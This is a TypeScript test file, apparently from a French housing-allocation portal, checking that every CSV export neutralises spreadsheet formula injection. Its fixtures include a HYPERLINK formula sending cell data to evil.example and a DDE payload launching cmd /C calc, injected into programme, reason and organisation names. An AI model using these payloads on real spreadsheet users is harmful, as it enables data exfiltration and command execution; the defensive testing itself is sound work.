import { readdirSync } from "node:fs";
import { eq } from "drizzle-orm";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "#db/client.server";
import { organisations } from "#db/schema";
import { signalementSchema } from "~/lib/signalement-schemas";
import { neutraliseFormula, toCsv } from "~/lib/spreadsheet.server";
import { rectifyAssiette, saveForecast } from "~/models/assiette.server";
import { addCribCase, createCribSession } from "~/models/crib.server";
import { createSignalement } from "~/models/signalements.server";
import { action as programmesAction } from "~/routes/api.v1.programmes";
import { loader as assietteCsv } from "~/routes/assiette.$year.export[.csv]";
import { loader as templateCsv } from "~/routes/attributions.modele[.csv]";
import { loader as consumptionCsv } from "~/routes/consommation.export[.csv]";
import { loader as cribCsv } from "~/routes/crib.$id.export[.csv]";
import { loader as indicatorsCsv } from "~/routes/indicateurs.export[.csv]";
import { loader as deliveriesCsv } from "~/routes/programmes.livraisons.export[.csv]";
import { loader as signalementsCsv } from "~/routes/signalements.export[.csv]";
import { apiCaller, callApi } from "../helpers/api";
import { insertAttributions } from "../helpers/attributions";
import { browserOf, publishYear } from "../helpers/cycle";
import { actorOf, BASE_URL, createUser, organisation } from "../helpers/fixtures";

/** What a spreadsheet would run as a formula when it opens the CSV: a cell starting with = + - @, a tab or a CR. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const DANGEROUS_START = ["=", "+", "-", "@", "\t", "\r"];

/** The cells of a CSV export as a spreadsheet reads them (`;`, quoted cells, BOM). */
const cells = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { delimiter: ";" }).data.flat();
/** A cell a spreadsheet would run: a dangerous first character, unless the whole cell is a number (-3, +12,5). */
const runsAsFormula = (cell: string) =>
  DANGEROUS_START.includes(cell[0] ?? "") && !/^[-+]?\d+([.,]\d+)?$/.test(cell);
/** A hostile text that reached the export, kept as text by a leading « ' ». */
const neutralised = (cell: string) => cell.startsWith("'") && DANGEROUS_START.includes(cell[1] ?? "");

describe("neutraliseFormula", () => {
  it("prefixes with ' every text cell a spreadsheet would run, and leaves numbers and plain text alone", () => {
    for (const formula of [HYPERLINK, DDE, "+1+1", "-2+3", "\tcmd", "\r=1"])
      expect(neutraliseFormula(formula)).toBe(`'${formula}`);
    for (const plain of ["Résidence des Tisserands", "-3", "12,5", "+33", 42, -7, null])
      expect(neutraliseFormula(plain)).toBe(plain);
    const csv = toCsv({ header: ["=Nom", "Nombre"], body: [[HYPERLINK, -4]] });
    expect(cells(csv).some(runsAsFormula)).toBe(false);
    expect(csv).toContain("'=HYPERLINK");
  });
});

/**
 * Every CSV export, by route file, fed with what an attacker controls in it: a programme's name and address (a
 * bailleur's API), a rectificatif's reason (the État), and organisation names (the platform's admin), each starting
 * with one of the dangerous characters. A new `*[.csv].ts` route fails the first test until it is added here.
 */
const YEAR = 2026;
type Export = {
  loader: (args: never) => unknown;
  path: (ids: { crib: string }) => string;
  params?: (ids: { crib: string }) => Record<string, string>;
  reader: string;
};
const EXPORTS: Record<string, Export> = {
  "programmes.livraisons.export[.csv].ts": {
    loader: deliveriesCsv,
    path: () => `/programmes/livraisons/export.csv?year=${YEAR + 1}`,
    reader: "mel",
  },
  "signalements.export[.csv].ts": {
    loader: signalementsCsv,
    path: () => "/signalements/export.csv",
    reader: "mel",
  },
  "crib.$id.export[.csv].ts": {
    loader: cribCsv,
    path: ({ crib }) => `/crib/${crib}/export.csv`,
    params: ({ crib }) => ({ id: crib }),
    reader: "mel",
  },
  "consommation.export[.csv].ts": {
    loader: consumptionCsv,
    path: () => `/consommation/export.csv?year=${YEAR}`,
    reader: "mel",
  },
  "indicateurs.export[.csv].ts": {
    loader: indicatorsCsv,
    path: () => `/indicateurs/export.csv?year=${YEAR}`,
    reader: "mel",
  },
  "assiette.$year.export[.csv].ts": {
    loader: assietteCsv,
    path: () => `/assiette/${YEAR}/export.csv`,
    params: () => ({ year: String(YEAR) }),
    reader: "etat",
  },
  // No user data in the template: it is checked all the same.
  "attributions.modele[.csv].ts": {
    loader: templateCsv,
    path: () => "/attributions/modele.csv",
    reader: "vilogia",
  },
};

const ids = { crib: "" };

beforeAll(async () => {
  // A bailleur declares a programme named and addressed as formulas (the incident of issue 14).
  const vilogia = await apiCaller("vilogia", ["gestionnaire"]);
  const declared = await callApi(vilogia, programmesAction, {
    path: "/programmes",
    body: {
      communeInsee: "59350",
      name: HYPERLINK,
      address: DDE,
      firstLettingDate: `${YEAR + 1}-06-15`,
      flats: [{ typology: "T3", financing: "plus", pmr: false, count: 4 }],
    },
  });
  expect(declared.status).toBe(201);

  // A signalement, a CRIB case and attributions, so that each export has rows naming organisations.
  const lille = await actorOf(await createUser("commune-59350", ["gestionnaire"]));
  await createSignalement(
    lille,
    signalementSchema.parse({
      numeroUnique: "059 2401 00001 A",
      adults: 1,
      children: 0,
      typology: "T2",
      communesWanted: ["59350"],
      publicCategory: "autre",
      reason: "Suroccupation",
      bailleurSlugs: ["vilogia"],
    }),
    { baseUrl: BASE_URL },
  );
  const mel = await actorOf(await createUser("mel", ["admin"]));
  ids.crib = (await createCribSession(mel, `${YEAR}-06-11`)).id;
  await addCribCase(mel, ids.crib, {
    numeroUnique: "059240100002A",
    originBailleurSlug: "vilogia",
    typology: "T3",
    communesWanted: ["59350"],
  });
  const bailleur = await organisation("vilogia");
  await insertAttributions([
    {
      bailleurId: bailleur.id,
      contingent: "mel",
      reservataireId: (await organisation("mel")).id,
      leaseDate: `${YEAR}-03-02`,
    },
  ]);

  // The État's rectificatif gives a reason that tries to open a cell of its own after a « ; ».
  const forecast = { a: 500, b: 50, c: 20, d: 10, e: 5, f: 3, g: 2 };
  await publishYear(YEAR, { vilogia: forecast });
  await saveForecast(await actorOf(await createUser("lille-metropole-habitat", ["gestionnaire"])), {
    year: YEAR,
    values: forecast,
    submit: true,
  });
  await rectifyAssiette(await actorOf(await createUser("etat", ["signataire"])), {
    year: YEAR,
    reason: `Prévision tardive de LMH;${HYPERLINK}`,
    baseUrl: BASE_URL,
  });

  // Every organisation renamed by a hostile platform admin, each dangerous first character in turn.
  const all = await db.select({ id: organisations.id, name: organisations.name }).from(organisations);
  for (const [i, o] of all.entries())
    await db
      .update(organisations)
      .set({ name: `${DANGEROUS_START[i % DANGEROUS_START.length]}${o.name}` })
      .where(eq(organisations.id, o.id));
});

describe("CSV exports neutralise formulas", () => {
  it("covers every CSV export route of the portal", () => {
    const routes = readdirSync("app/routes").filter((file) => file.includes("[.csv]"));
    expect(routes.sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  for (const [route, { loader, path, params, reader }] of Object.entries(EXPORTS))
    it(`${route} carries hostile text as text, and no cell a spreadsheet would run`, async () => {
      const who = await browserOf(await createUser(reader, ["admin"]));
      const response = await who.raw(loader, path(ids), params?.(ids));
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
      const exported = cells(await response.text());
      expect(exported.filter(runsAsFormula)).toEqual([]);
      if (route !== "attributions.modele[.csv].ts") expect(exported.some(neutralised)).toBe(true);
    });

  it("keeps the programme's name and address, and the rectificatif's reason, readable behind the « ' »", async () => {
    const mel = await browserOf(await createUser("mel", ["admin"]));
    const deliveries = await (
      await mel.raw(deliveriesCsv, EXPORTS["programmes.livraisons.export[.csv].ts"]!.path(ids))
    ).text();
    expect(cells(deliveries)).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${DDE}`]));
    const etat = await browserOf(await createUser("etat", ["admin"]));
    const annex = await (
      await etat.raw(assietteCsv, `/assiette/${YEAR}/export.csv`, { year: String(YEAR) })
    ).text();
    expect(cells(annex).some((cell) => cell.includes(`Prévision tardive de LMH;${HYPERLINK}`))).toBe(true);
  });
});
